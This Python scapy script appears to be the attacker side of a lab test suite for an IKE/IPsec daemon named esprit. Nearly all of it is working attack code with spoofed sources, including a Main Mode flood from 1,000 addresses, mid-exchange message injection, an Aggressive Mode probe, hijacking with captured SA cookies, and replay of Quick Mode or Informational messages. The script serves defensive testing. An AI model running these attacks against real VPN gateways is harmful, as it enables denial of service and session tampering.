#!/usr/bin/python3
"""The attacker of scripts/tests/attacks-ike.sh: scapy builds (and sniffs)
IKEv1 datagrams that a stranger on the internet can send to esprit.

  flood DST SECONDS          Main Mode first messages from 1,000 source
                             addresses, as fast as a raw socket takes them
  own DST SRC RATE SECONDS   the same from one address (the real peer's),
                             RATE per second
  inject-mid PEER_IF OUR_IF DST SRC KIND READY CLI...
                             between DST's Main Mode message 2 and SRC's
                             message 3 (held by the caller's nftables rule,
                             captured on PEER_IF): a spoofed first message
                             from SRC (KIND new-cookie or same-cookie),
                             then SRC's message 3 delivered; reports what
                             DST did with each (answers sniffed on OUR_IF,
                             counters from CLI get counter --json); creates
                             READY once sniffing
  aggressive IFACE DST SRC   an Aggressive Mode first message; prints how
                             many datagrams came back with its cookie in 3 s
  hijack DST SRC PORT ICKY RCKY
                             an Informational with the ISAKMP SA's cookies
                             from SRC:PORT to DST:4500 (non-ESP marker)
  replay PCAP DST SRC KIND AFTER
                             re-sends SRC's first KIND (qm1 or info) message
                             to DST:4500 captured after time AFTER
All sources are spoofed; everything stays inside the lab's namespaces.
"""
import json
import os
import random
import socket
import struct
import subprocess
import sys
import threading
import time

from scapy.all import IP, UDP, Raw, AsyncSniffer, rdpcap, conf  # noqa: E402

conf.verb = 0


def sa_payload(next_payload):
    """SA: one proposal, one transform aes128-sha1-modp2048-psk, 8 h."""
    attrs = struct.pack(
        "!HHHHHHHHHHHHHH",
        0x8001, 7,      # encryption AES-CBC
        0x800E, 128,    # key length
        0x8002, 2,      # hash SHA1
        0x8003, 1,      # auth PSK
        0x8004, 14,     # group 14
        0x800B, 1,      # life type seconds
        0x800C, 28800,  # life duration
    )
    transform = struct.pack("!BBHBBH", 0, 0, 8 + len(attrs), 1, 1, 0) + attrs
    proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(transform), 1, 1, 0, 1) + transform
    body = struct.pack("!II", 1, 1) + proposal  # DOI IPsec, SIT identity only
    return struct.pack("!BBH", next_payload, 0, 4 + len(body)) + body


def isakmp(icookie, rcookie, next_payload, exchange, flags, msgid, payloads):
    return (icookie + rcookie + struct.pack("!BBBBII", next_payload, 0x10, exchange, flags, msgid,
                                            28 + len(payloads)) + payloads)


VID_NATT = bytes.fromhex("4a131c81070358455c5728f20e95452f")


def main_mode_1(icookie):
    vid = struct.pack("!BBH", 0, 0, 4 + len(VID_NATT)) + VID_NATT
    return isakmp(icookie, bytes(8), 1, 2, 0, 0, sa_payload(13) + vid)


def aggressive_1(icookie):
    ke = struct.pack("!BBH", 10, 0, 4 + 256) + os.urandom(256)
    nonce = struct.pack("!BBH", 5, 0, 4 + 32) + os.urandom(32)
    ident = b"attacker.example"
    idp = struct.pack("!BBHBBH", 0, 0, 8 + len(ident), 2, 17, 500) + ident
    return isakmp(icookie, bytes(8), 1, 4, 0, 0, sa_payload(4) + ke + nonce + idp)


def packet(src, dst, sport, dport, payload):
    p = IP(src=src, dst=dst) / UDP(sport=sport, dport=dport) / Raw(payload)
    return bytes(p)


def raw_socket():
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    return s


def sources():
    """1,000 addresses: the documentation ranges (757), then 10.255/16,
    which exists only inside the lab's namespaces."""
    out = [f"192.0.2.{i}" for i in range(1, 255)]
    out += [f"198.51.100.{i}" for i in range(2, 254)]
    out += [f"203.0.113.{i}" for i in range(3, 254)]
    i = 0
    while len(out) < 1000:
        out.append(f"10.255.{i // 250}.{i % 250 + 1}")
        i += 1
    return out


def flood(dst, seconds):
    srcs = sources()
    pkts = [packet(srcs[i % 1000], dst, 500, 500, main_mode_1(os.urandom(8))) for i in range(4000)]
    s = raw_socket()
    n = 0
    end = time.time() + seconds
    while time.time() < end:
        for p in pkts[:1000]:
            s.sendto(p, (dst, 0))
        n += 1000
        random.shuffle(pkts)
    print(f"flood: {n} datagrams from {len(srcs)} addresses in {seconds} s ({n / seconds:.0f}/s)")


def own(dst, src, rate, seconds):
    s = raw_socket()
    n = 0
    start = time.time()
    while time.time() - start < seconds:
        s.sendto(packet(src, dst, 500, 500, main_mode_1(os.urandom(8))), (dst, 0))
        n += 1
        ahead = n / rate - (time.time() - start)
        if ahead > 0:
            time.sleep(ahead)
    print(f"own: {n} datagrams from {src} in {seconds} s")


def isakmp_of(p):
    """The ISAKMP message in a captured UDP/500 datagram, or None."""
    if UDP not in p or p[UDP].sport != 500 or p[UDP].dport != 500:
        return None
    b = bytes(p[UDP].payload)
    return b if len(b) >= 28 else None


def main_mode_step(b, first_payload):
    """Whether ISAKMP message b is a clear Main Mode message whose first
    payload is first_payload (1 SA: MM1/MM2, 4 KE: MM3/MM4)."""
    return b[18] == 2 and b[16] == first_payload and not b[19] & 1


def counters(cli):
    """(ike_ingest_dropped rejected, ike_discards) from `esprit get counter
    --json`; zeros for counters a build does not have."""
    out = subprocess.run(cli + ["get", "counter", "--json"], capture_output=True, text=True, timeout=5)
    j = json.loads(out.stdout) if out.returncode == 0 else {}
    return j.get("ike_ingest_dropped", {}).get("rejected", 0), j.get("ike_discards", {})


def inject_mid(peer_if, our_if, dst, src, kind, ready, cli):
    """The moment that matters (RFC 2409 §5): our message 2 is out,
    SRC's message 3 is on its way. The lab's router drops SRC's message 3
    (an nftables rule the caller sets); this captures it, sends a spoofed
    first message of KIND from SRC, waits until DST has handled it (an
    answer on the wire, or a counter), then delivers the captured message 3
    unchanged and reports whether DST answers it with message 4."""
    answers = []
    answers_up = threading.Event()
    back = AsyncSniffer(iface=our_if, filter=f"udp and src host {dst} and dst host {src}",
                        prn=answers.append, store=False, started_callback=answers_up.set)
    back.start()
    if not answers_up.wait(10):
        sys.exit("inject-mid: the sniffer did not start")

    def mm3(p):
        b = isakmp_of(p)
        return b is not None and p[IP].src == src and b[8:16] != bytes(8) and main_mode_step(b, 4)
    held = AsyncSniffer(iface=peer_if, filter=f"udp and src host {src} and dst host {dst}", lfilter=mm3,
                        count=1, timeout=20, started_callback=lambda: open(ready, "w").close())
    held.start()
    held.join()
    if not held.results:
        back.stop()
        sys.exit(f"inject-mid: no message 3 from {src} held in 20 s")
    mm3_bytes = isakmp_of(held.results[0])
    icky, rcky = mm3_bytes[:8], mm3_bytes[8:16]
    print(f"held: {src}'s message 3 (cookies {icky.hex()} {rcky.hex()})")

    # kind new-cookie: another initiator's exchange; same-cookie: SRC's own
    # initiator cookie with another offer (not a retransmission, which
    # gets the same answer again).
    spoof_icky = os.urandom(8) if kind == "new-cookie" else icky
    spoof = main_mode_1(spoof_icky)
    rejected0, discards0 = counters(cli)
    raw_socket().sendto(packet(src, dst, 500, 500, spoof), (dst, 0))
    print(f"spoof: a first message from {src}, initiator cookie {spoof_icky.hex()} ({kind})")

    def answer_to_spoof():
        for p in list(answers):
            b = isakmp_of(p)
            if b and b[:8] == spoof_icky and b[8:16] != rcky and main_mode_step(b, 1):
                return b[8:16]
        return None
    end = time.time() + 5
    answered = None
    while time.time() < end:
        answered = answer_to_spoof()
        rejected, discards = counters(cli)
        moved = {k: v - discards0.get(k, 0) for k, v in discards.items() if v != discards0.get(k, 0)}
        if answered or rejected != rejected0 or moved:
            break
        time.sleep(0.02)
    else:
        back.stop()
        sys.exit(f"inject-mid: {dst} neither answered the spoof nor counted it in 5 s")
    if answered and kind == "same-cookie":
        print(f"handled: answered with another responder cookie {answered.hex()} (was {rcky.hex()})")
    elif answered:
        print(f"handled: answered with message 2 (responder cookie {answered.hex()})")
    else:
        print("handled: refused")
    print(f"counters: rejected +{rejected - rejected0}, discards {moved}")

    def mm4():
        for p in list(answers):
            b = isakmp_of(p)
            if b and b[:16] == icky + rcky and main_mode_step(b, 4):
                return True
        return False
    t0 = time.time()
    raw_socket().sendto(packet(src, dst, 500, 500, mm3_bytes), (dst, 0))
    while time.time() - t0 < 3 and not mm4():
        time.sleep(0.01)
    back.stop()
    if mm4():
        print(f"message 3: released, answered with message 4 in {time.time() - t0:.2f} s")
    else:
        print("message 3: released, unanswered in 3 s")


def aggressive(iface, dst, src):
    icookie = os.urandom(8)

    def answer(p):
        if UDP not in p or p[IP].src != dst:
            return False
        b = bytes(p[UDP].payload)
        if p[UDP].sport == 4500:
            b = b[4:]
        return b[:8] == icookie
    sn = AsyncSniffer(iface=iface, filter=f"udp and src host {dst}", lfilter=answer, timeout=3)
    sn.start()
    time.sleep(0.3)
    raw_socket().sendto(packet(src, dst, 500, 500, aggressive_1(icookie)), (dst, 0))
    sn.join()
    print(len(sn.results))


def hijack(dst, src, port, icky, rcky):
    body = os.urandom(64)
    msg = isakmp(bytes.fromhex(icky), bytes.fromhex(rcky), 8, 5, 1, random.getrandbits(32), body)
    raw_socket().sendto(packet(src, dst, int(port), 4500, bytes(4) + msg), (dst, 0))
    print(f"hijack: an Informational with the ISAKMP SA's cookies from {src}:{port}")


def replay(pcap, dst, src, kind, after):
    seen = set()
    for p in rdpcap(pcap):
        if UDP not in p or p[IP].src != src or p[UDP].dport != 4500 or float(p.time) < float(after):
            continue
        b = bytes(p[UDP].payload)
        if b[:4] != bytes(4) or len(b) < 32:
            continue
        m = b[4:]
        exchange, msgid = m[18], m[20:24]
        if kind == "qm1" and exchange == 32 and msgid not in seen:
            break
        if kind == "info" and exchange == 5:
            break
        seen.add(msgid)
    else:
        print(f"replay: no {kind} from {src} after {after}")
        sys.exit(1)
    raw_socket().sendto(packet(src, dst, 4500, 4500, b), (dst, 0))
    print(f"replay: {kind} message ID {msgid.hex()} sent again")


if __name__ == "__main__":
    cmd, args = sys.argv[1], sys.argv[2:]
    if cmd == "flood":
        flood(args[0], float(args[1]))
    elif cmd == "own":
        own(args[0], args[1], float(args[2]), float(args[3]))
    elif cmd == "inject-mid":
        inject_mid(args[0], args[1], args[2], args[3], args[4], args[5], args[6:])
    elif cmd == "aggressive":
        aggressive(args[0], args[1], args[2])
    elif cmd == "hijack":
        hijack(*args)
    elif cmd == "replay":
        replay(*args)
    else:
        sys.exit(f"unknown command {cmd}")
